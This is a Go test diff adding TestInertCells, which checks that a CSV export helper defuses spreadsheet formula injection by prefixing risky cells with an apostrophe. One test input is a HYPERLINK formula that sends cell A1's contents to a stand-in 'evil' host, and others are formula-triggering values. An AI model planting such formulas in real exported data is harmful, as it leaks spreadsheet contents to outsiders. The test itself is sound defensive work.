@@ -63,3 +63,24 @@ func FuzzParseDay(f *testing.F) {
 		}
 	})
 }
+
+func TestInertCells(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"Sara", "Sara"},
+		{"", ""},
+		{"12", "12"},
+		{"-3.5", "-3.5"},
+		{"+98", "+98"},
+		{`=HYPERLINK("https://evil/?"&A1,"x")`, `'=HYPERLINK("https://evil/?"&A1,"x")`},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"-2+cmd", "'-2+cmd"},
+		{"\tx", "'\tx"},
+	}
+	for _, c := range cases {
+		t.Run(c.in, func(t *testing.T) {
+			if got := inertCells([]string{c.in})[0]; got != c.want {
+				t.Fatalf("inertCells(%q) = %q, want %q", c.in, got, c.want)
+			}
+		})
+	}
+}
